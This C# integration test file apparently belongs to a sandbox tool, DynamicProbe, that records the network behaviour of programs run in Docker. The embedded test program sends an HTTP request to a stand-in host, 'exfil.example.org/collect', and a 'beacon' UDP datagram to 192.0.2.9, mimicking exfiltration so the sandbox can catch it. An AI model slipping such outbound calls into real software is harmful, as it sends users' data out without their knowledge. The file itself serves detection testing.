using System.Diagnostics;
using System.Text;
using Docker.DotNet;
using DynamicProbe.Core.Events;
using DynamicProbe.Core.Pipeline;
using DynamicProbe.Core.Scenarios;
using DynamicProbe.Sandbox.Docker;
using DynamicProbe.Sandbox.Network;
using DynamicProbe.Sandbox.Running;
using static DynamicProbe.Integration.Tests.Running.TestScenarios;

namespace DynamicProbe.Integration.Tests.Network;

/// <summary>
/// A .NET program's own networking (HttpClient, UdpClient, the runtime's getaddrinfo lookups, non-blocking connects)
/// in dynamicprobe/dotnet: caught and attributed under sinkhole, names seen under none.
/// </summary>
[TestFixture]
[NonParallelizable]
public sealed class DotnetTargetTests
{
    private const string Program = """
        using System.Net.Sockets;
        var http = new HttpClient { Timeout = TimeSpan.FromSeconds(5) };
        try { Console.WriteLine($"http {(int)(await http.GetAsync("http://exfil.example.org/collect?k=v")).StatusCode}"); }
        catch (Exception e) { Console.WriteLine($"http failed: {e.GetType().Name}"); }
        try { using var udp = new UdpClient(); udp.Send("beacon"u8.ToArray(), "192.0.2.9", 5353); Console.WriteLine("udp sent"); }
        catch (Exception e) { Console.WriteLine($"udp failed: {e.GetType().Name}"); }
        """;

    private DirectoryInfo app = null!;
    private DockerEngine engine = null!;
    private SandboxRunner runner = null!;

    [OneTimeSetUp]
    public async Task BuildTheProgramAsync()
    {
        app = Directory.CreateTempSubdirectory("dynamicprobe-test-netapp-");
        var source = Path.Combine(app.FullName, "src");
        Directory.CreateDirectory(source);
        await File.WriteAllTextAsync(Path.Combine(source, "Program.cs"), Program);
        await File.WriteAllTextAsync(Path.Combine(source, "NetApp.csproj"), """
            <Project Sdk="Microsoft.NET.Sdk">
              <PropertyGroup><OutputType>Exe</OutputType><TargetFramework>net10.0</TargetFramework><ImplicitUsings>enable</ImplicitUsings></PropertyGroup>
            </Project>
            """);
        var start = new ProcessStartInfo("dotnet") { RedirectStandardOutput = true, RedirectStandardError = true, WorkingDirectory = source };
        foreach (var argument in (string[])["publish", "-c", "Release", "-o", Path.Combine(app.FullName, "out"), "--nologo"])
        {
            start.ArgumentList.Add(argument);
        }

        using var publish = System.Diagnostics.Process.Start(start)!;
        var output = publish.StandardOutput.ReadToEndAsync();
        await publish.WaitForExitAsync();
        Assert.That(publish.ExitCode, Is.Zero, await output);
    }

    [OneTimeTearDown]
    public void RemoveTheProgram() => app.Delete(recursive: true);

    [SetUp]
    public void CreateRunner()
    {
        engine = DockerEngine.FromEnvironment();
        IDockerClient docker = engine.Client;
        runner = new SandboxRunner(docker, SharedMonitor.Monitor,
            new SandboxRunnerOptions(Sinkhole: new SinkholePodOptions(CatcherFolder: PublishedCatcher.Folder)));
    }

    [TearDown]
    public void Disconnect() => engine.Dispose();

    [Test]
    public async Task Under_sinkhole_its_http_request_and_datagram_are_caught_and_attributed_to_it()
    {
        var outcome = await runner.RunAsync(Scenario(NetworkMode.Sinkhole), null, NoProgress.Instance, CancellationToken.None);

        Assert.That(outcome.Steps.Single().Stdout, Is.EqualTo("http 200\nudp sent\n"), outcome.Steps.Single().Stderr);
        Assert.That(outcome.Recording.Health.IsComplete, Is.True, outcome.Recording.Health.Problem);
        var program = outcome.Recording.Events.OfType<ProcessExecEvent>().Single(e => e.Argv.Contains("/work/NetApp.dll")).Pid;
        var lookup = outcome.Recording.Events.OfType<DnsQueryEvent>().First(d => d.Name == "exfil.example.org" && d.QueryType == "A");
        Assert.That(lookup.Pid, Is.EqualTo(program));
        Assert.That(lookup.Answer, Is.Not.Null);
        var http = outcome.Recording.Events.OfType<SinkholeCaptureEvent>().Single(c => c.Protocol == "tcp");
        Assert.That((http.Pid, http.Address, http.Port, http.DnsName), Is.EqualTo((program, lookup.Answer, 80, "exfil.example.org")));
        Assert.That(Encoding.ASCII.GetString(Convert.FromBase64String(http.FirstBytesBase64)), Does.StartWith("GET /collect?k=v HTTP/1.1"));
        var datagram = outcome.Recording.Events.OfType<SinkholeCaptureEvent>().Single(c => c.Protocol == "udp");
        Assert.That((datagram.Pid, datagram.Address, datagram.Port), Is.EqualTo((program, "192.0.2.9", 5353)));
    }

    [Test]
    public async Task Under_none_the_name_it_looked_up_is_recorded()
    {
        var outcome = await runner.RunAsync(Scenario(NetworkMode.None), null, NoProgress.Instance, CancellationToken.None);

        Assert.That(outcome.Steps.Single().Stdout, Does.StartWith("http failed: HttpRequestException\n"), outcome.Steps.Single().Stderr);
        Assert.That(outcome.Recording.Health.IsComplete, Is.True, outcome.Recording.Health.Problem);
        var program = outcome.Recording.Events.OfType<ProcessExecEvent>().Single(e => e.Argv.Contains("/work/NetApp.dll")).Pid;
        Assert.That(outcome.Recording.Events.OfType<DnsQueryEvent>().Where(d => d.Pid == program).Select(d => (d.Name, d.Answer)),
            Does.Contain(("exfil.example.org", (string?)null)));
        Assert.That(outcome.Recording.Events.OfType<NetworkEvent>().Where(n => n.Pid == program && n.Operation == NetworkOperation.SendTo).Select(n => n.Endpoint),
            Does.Contain("192.0.2.9:5353"));
    }

    private Scenario Scenario(NetworkMode network)
    {
        var scenario = Command(["/usr/share/dotnet/dotnet", "/work/NetApp.dll"], [new RunStep(At(10), 0, null, null)], workdir: Path.Combine(app.FullName, "out"));
        return scenario with { Sandbox = scenario.Sandbox with { Image = "dynamicprobe/dotnet", Network = network, Timeout = TimeSpan.FromSeconds(90) } };
    }
}
